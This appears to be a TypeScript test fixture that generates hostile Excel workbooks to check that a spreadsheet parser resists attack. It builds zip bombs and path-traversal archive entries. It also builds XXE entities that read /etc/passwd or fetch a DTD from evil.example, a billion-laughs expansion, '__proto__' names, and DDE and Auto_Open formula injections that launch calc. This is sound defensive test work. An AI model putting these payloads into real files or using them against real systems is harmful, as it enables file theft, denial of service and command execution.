import { deflateRawSync } from 'node:zlib';
import { writeZip } from '../../../local/xlsx/zip.ts';
import { type PartTexts, packageOf, plainParts } from '../../xlsx-file/plain-workbook.ts';

/** Bytes that say they are a workbook; `formulas` where one can be read, since cells of it were chosen as data. */
export type HostileWorkbook = Readonly<{ name: string; bytes: () => Uint8Array }>;

const SHEET = 'xl/worksheets/sheet1.xml';
const data =
  '<row r="1"><c r="A1" t="inlineStr"><is><t>Campaign</t></is></c><c r="B1" t="inlineStr"><is><t>Spend</t></is></c></row>' +
  '<row r="2"><c r="A2" t="inlineStr"><is><t>=1+1</t></is></c><c r="B2"><v>5</v></c></row>' +
  '<row r="3"><c r="A3" t="inlineStr"><is><t>b</t></is></c><c r="B3"><v>7</v></c></row>';
const row4 = (cells: string): string => `${data}<row r="4">${cells}</row>`;
const sheet = (rows: string, title = 'Sheet1'): PartTexts => plainParts([{ title, rows }]);
const changed = (path: string, change: (text: string) => string, parts = sheet(data)): PartTexts => ({
  ...parts,
  [path]: change(String(parts[path])),
});
const book = (parts: PartTexts) => (): Uint8Array => packageOf(parts);
const withRows = (rows: string) => book(sheet(rows));
const withHead = (head: string) => book(changed(SHEET, (text) => text.replace('?>', `?>${head}`)));

const laughs = `<!DOCTYPE lolz [<!ENTITY a "lol">${'bcdefghij'
  .split('')
  .map((name, at) => `<!ENTITY ${name} "${`&${'abcdefghi'.charAt(at)};`.repeat(10)}">`)
  .join('')}]>`;

/** An archive whose last part says it is smaller, or larger, than it is. */
function lying(size: number, real: number): Uint8Array {
  const bytes = Buffer.from(writeZip([...archive(), { path: 'xl/bomb.xml', bytes: Buffer.alloc(real, 0x20) }]));
  const at = bytes.lastIndexOf(Buffer.from([0x50, 0x4b, 1, 2]));
  bytes.writeUInt32LE(size, at + 24);
  return bytes;
}
const archive = () =>
  Object.entries(sheet(data)).map(([path, content]) => ({ path, bytes: Buffer.from(content as string, 'utf8') }));
const withEntry = (path: string) => (): Uint8Array => writeZip([...archive(), { path, bytes: Buffer.from('<a/>') }]);

export const hostileWorkbooks: readonly HostileWorkbook[] = [
  { name: 'bomb that says its size', bytes: () => lying(70 * 2 ** 20, 70 * 2 ** 20) },
  { name: 'bomb that says it is small', bytes: () => lying(100, 20 * 2 ** 20) },
  { name: 'bomb that says it is endless', bytes: () => lying(0xfffffffe, 1000) },
  { name: 'path up', bytes: withEntry('../../../../tmp/harmed.xml') },
  { name: 'path of the root', bytes: withEntry('/etc/harmed.xml') },
  { name: 'path of Windows', bytes: withEntry('..\\..\\harmed.xml') },
  { name: 'path named like a property', bytes: withEntry('__proto__') },
  { name: 'a part twice', bytes: () => writeZip([...archive(), ...archive()]) },
  { name: 'a part twice but for case', bytes: withEntry('XL/Workbook.xml') },
  {
    name: '6,000 parts',
    bytes: () => writeZip(Array.from({ length: 6000 }, (_, at) => ({ path: `${at}`, bytes: new Uint8Array() }))),
  },
  { name: 'no parts', bytes: () => writeZip([]) },
  { name: 'cut off', bytes: () => packageOf(sheet(data)).subarray(0, 900) },
  { name: 'a beginning and no more', bytes: () => Buffer.from([0x50, 0x4b, 3, 4]) },
  {
    name: 'noise',
    bytes: () => Buffer.concat([Buffer.from([0x50, 0x4b, 3, 4]), deflateRawSync(Buffer.alloc(5000, 7))]),
  },
  { name: 'entities of its own', bytes: withHead('<!DOCTYPE a [<!ENTITY b "=1+1">]>') },
  { name: 'entities of a file', bytes: withHead('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>') },
  { name: 'entities of another machine', bytes: withHead('<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">') },
  {
    name: 'a billion laughs',
    bytes: book(changed(SHEET, (text) => text.replace('?>', `?>${laughs}`).replace('=1+1', '&j;'))),
  },
  { name: 'elements 100,000 deep', bytes: withRows(row4(`<c r="A4" t="inlineStr"><is>${'<r>'.repeat(100_000)}`)) },
  {
    name: 'elements 20,000 deep and closed',
    bytes: withRows(row4(`<c r="A4" t="inlineStr"><is>${'<r>'.repeat(20_000)}${'</r>'.repeat(20_000)}</is></c>`)),
  },
  {
    name: 'shared texts out of range',
    bytes: withRows(row4('<c r="A4" t="s"><v>99</v></c><c r="B4" t="s"><v>-1</v></c>')),
  },
  {
    name: 'a shared text named like a property',
    bytes: withRows(row4('<c r="A4" t="s"><v>constructor</v></c><c r="B4"><v>1</v></c>')),
  },
  { name: 'a row beyond the last', bytes: withRows(`${data}<row r="99999999"><c r="A99999999"><v>1</v></c></row>`) },
  { name: 'a row of negative number', bytes: withRows(`${data}<row r="-5"><c r="A-5"><v>1</v></c></row>`) },
  { name: 'a column beyond the last', bytes: withRows(row4('<c r="ZZZZZZ4"><v>1</v></c>')) },
  {
    name: 'a cell at the last corner',
    bytes: withRows(`${data}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>`),
  },
  { name: 'a cell twice', bytes: withRows(row4('<c r="A4"><v>1</v></c><c r="A4"><f>1+1</f><v>2</v></c>')) },
  {
    name: 'formulas as data',
    bytes: withRows(
      row4(
        '<c r="A4" t="str"><f>HYPERLINK("http://evil.example","x")</f><v>=1+1</v></c><c r="B4"><f>1+1</f><v>2</v></c>',
      ),
    ),
  },
  {
    name: 'formulas of several cells',
    bytes: withRows(
      row4(
        '<c r="A4" t="str"><f t="array" ref="A4:A9">cmd|\'/C calc\'!A0</f><v>x</v></c><c r="B4"><f t="shared" si="0" ref="B4:B9">A4</f><v>1</v></c>',
      ),
    ),
  },
  { name: 'numbers that are none', bytes: withRows(row4('<c r="A4"><v>NaN</v></c><c r="B4"><v>1e999</v></c>')) },
  { name: 'errors and truths', bytes: withRows(row4('<c r="A4" t="e"><v>#REF!</v></c><c r="B4" t="b"><v>7</v></c>')) },
  {
    name: 'escapes of characters',
    bytes: withRows(row4('<c r="A4" t="inlineStr"><is><t>_x0000__xD800__x003D_1+1</t></is></c><c r="B4"><v>1</v></c>')),
  },
  {
    name: 'entities beyond',
    bytes: withRows(row4('<c r="A4" t="inlineStr"><is><t>&#99999999;&unknown;</t></is></c><c r="B4"><v>1</v></c>')),
  },
  {
    name: 'a style that is not there',
    bytes: withRows(row4('<c r="A4" s="9999"><v>1</v></c><c r="B4" s="-1"><v>1</v></c>')),
  },
  { name: 'a title that is a formula', bytes: book(sheet(data, '=1+1')) },
  { name: 'a title of a property', bytes: book(sheet(data, '__proto__')) },
  { name: 'a title of 300 characters', bytes: book(sheet(data, "a'b".repeat(100))) },
  {
    name: 'wrong types of content',
    bytes: book(changed('[Content_Types].xml', (text) => text.replace(/sheet\.main\+xml/, 'evil+xml'))),
  },
  {
    name: 'no types of content',
    bytes: book(Object.fromEntries(Object.entries(sheet(data)).filter(([path]) => !path.startsWith('[')))),
  },
  {
    name: 'a relation out of the file',
    bytes: book(
      changed('xl/_rels/workbook.xml.rels', (text) => text.replace('worksheets/sheet1.xml', '../../../../etc/passwd')),
    ),
  },
  {
    name: 'a relation to another machine',
    bytes: book(
      changed('xl/_rels/workbook.xml.rels', (text) =>
        text.replace('Target="worksheets/sheet1.xml"', 'Target="http://evil.example/x" TargetMode="External"'),
      ),
    ),
  },
  {
    name: 'a relation to itself',
    bytes: book(changed('xl/_rels/workbook.xml.rels', (text) => text.replace('worksheets/sheet1.xml', 'workbook.xml'))),
  },
  {
    name: 'names that are formulas',
    bytes: book(
      changed('xl/workbook.xml', (text) =>
        text.replace(
          '<calcPr',
          '<definedNames><definedName name="Auto_Open">EXEC("calc")</definedName></definedNames><calcPr',
        ),
      ),
    ),
  },
  { name: 'XML that is none', bytes: withRows('<<<<>>>>&&&&') },
  { name: 'XML never closed', bytes: withRows(`${data}<row r="4"><c r="A4"`) },
  {
    name: 'XML in UTF-16',
    bytes: () => packageOf({ ...sheet(data), [SHEET]: Buffer.from(String(sheet(data)[SHEET]), 'utf16le') }),
  },
];
